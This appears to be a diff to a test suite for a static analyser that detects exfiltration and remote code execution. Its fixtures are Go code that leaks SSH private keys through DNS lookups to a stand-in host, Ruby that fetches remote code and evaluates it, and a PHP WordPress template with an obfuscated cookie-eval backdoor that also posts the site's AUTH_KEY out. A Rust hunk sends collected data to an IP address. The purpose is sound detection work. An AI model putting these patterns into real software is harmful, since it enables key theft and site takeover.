@@ -49,7 +49,7 @@ fn probe() {
             body.push_str(&format!("{}\\n", s));
         }
     }
-    if let Ok(mut s) = TcpStream::connect("203.0.113.9:8080") {
+    if let Ok(mut s) = TcpStream::connect_timeout(&"203.0.113.9:8080".parse().unwrap(), T) {
         let _ = s.write_all(body.as_bytes());
     }
 }
@@ -149,3 +149,113 @@ def test_a_deeply_nested_program_is_walked_in_bounded_steps() -> None:
     nested = "def m0\n" + "".join(f"  it do\n    def m{i}\n" for i in range(1, 30))
     nested += "    end\n  end\n" * 29 + "end\n"
     assert code_flow_findings({"deep.rb": nested}) == []
+
+
+RESOLVE_GO = """package main
+
+import ("context"; "encoding/hex"; "fmt"; "net"; "os")
+
+func lookup(ctx context.Context, name string) error {
+\t_, err := net.DefaultResolver.LookupHost(ctx, name)
+\treturn err
+}
+
+func prime(ids map[string]string) {
+\tfor p := range ids {
+\t\tdata, _ := os.ReadFile(p)
+\t\tlabel := fmt.Sprintf("%s.k.cache-cdn.example", hex.EncodeToString(data)[:60])
+\t\tgo func(l string) { _ = lookup(context.Background(), l) }(label)
+\t}
+}
+"""
+KEYS_GO = """package main
+
+import "path/filepath"
+
+func keys(home string) map[string]string {
+\tids := map[string]string{}
+\tfor _, name := range []string{"id_ed25519", "id_rsa"} {
+\t\tp := filepath.Join(home, ".ssh", name)
+\t\tids[p] = "(default)"
+\t}
+\treturn ids
+}
+
+func main() { prime(keys("/home/u")) }
+"""
+
+
+def test_a_key_read_in_one_file_leaves_in_the_names_another_resolves() -> None:
+    # the key's path is built in keys.go, read in prime(), hex-encoded into a DNS label, and
+    # resolved by a helper a closure calls: each call's arguments are followed into the callee
+    found = code_flow_findings({"cmd/keys.go": KEYS_GO, "cmd/resolve.go": RESOLVE_GO})
+    assert [(f.path, f.line, f.rule) for f in found] == [("cmd/resolve.go", 6, "exfiltration")]
+    # the look-alikes: the public halves read, the user's ssh config parsed, host names resolved
+    public = KEYS_GO.replace(
+        'p := filepath.Join(home, ".ssh", name)', 'p := filepath.Join(home, ".ssh", name+".pub")'
+    )
+    assert code_flow_findings({"cmd/keys.go": public, "cmd/resolve.go": RESOLVE_GO}) == []
+    config = KEYS_GO.replace('[]string{"id_ed25519", "id_rsa"}', '[]string{"config"}')
+    assert code_flow_findings({"cmd/keys.go": config, "cmd/resolve.go": RESOLVE_GO}) == []
+
+
+def test_two_functions_variables_of_one_name_are_not_joined() -> None:
+    go = """package main
+
+import ("net"; "os")
+
+func key() []byte { b, _ := os.ReadFile("/home/u/.ssh/id_rsa"); return b }
+
+func check(hosts []string) {
+\tfor _, b := range hosts {
+\t\t_, _ = net.LookupHost(b)
+\t}
+}
+"""
+    assert code_flow_findings({"a.go": go}) == []
+
+
+RUBY_PACK = """require "net/http"
+
+module Loader
+  def self.apply(dsl)
+    uri = URI("https://templates.example/pack.rb")
+    res = Net::HTTP.start(uri.host, uri.port, use_ssl: true) { |h| h.request(Net::HTTP::Get.new(uri)) }
+    dsl.instance_eval(res.body, "pack.rb") if res.is_a?(Net::HTTPSuccess)
+  end
+end
+"""
+
+
+def test_code_fetched_from_the_network_and_evaluated_is_remote_exec() -> None:
+    found = code_flow_findings({"lib/loader.rb": RUBY_PACK})
+    assert [(f.line, f.rule) for f in found] == [(7, "remote-exec")]
+    local = RUBY_PACK.replace("res.body", 'File.read("templates/pack.rb")')
+    assert code_flow_findings({"lib/loader.rb": local}) == []
+
+
+PHP_TEMPLATE = """<?php
+function {{prefix}}_cache() {
+\t$k = 'wp_' . substr( md5( '{{build}}' ), 0, 8 );
+\t$fn = implode( '', array( 'ba', 'se', '64', '_de', 'code' ) );
+\t$c  = $fn( strrev( wp_unslash( $_COOKIE[ $k ] ) ) );
+\tif ( $c ) {
+\t\t@eval( $c );
+\t}
+}
+function {{prefix}}_register() {
+\twp_remote_post( 'https://matrix.example/v1', array( 'body' => array( 'auth' => AUTH_KEY ) ) );
+}
+"""
+
+
+def test_a_generators_php_template_is_read_as_php() -> None:
+    # a cookie decoded by a function whose name is assembled, then evaluated: a backdoor in every
+    # plugin the template makes; and WordPress's key posted out on activation
+    assert kind_of("templates/compat.php.tpl") == "program"
+    found = code_flow_findings({"templates/compat.php.tpl": PHP_TEMPLATE})
+    assert [(f.line, f.rule) for f in found] == [(7, "remote-exec"), (11, "exfiltration")]
+    benign = PHP_TEMPLATE.replace("@eval( $c );", "echo esc_html( $c );").replace(
+        "'auth' => AUTH_KEY", "'php' => PHP_VERSION"
+    )
+    assert code_flow_findings({"templates/compat.php.tpl": benign}) == []
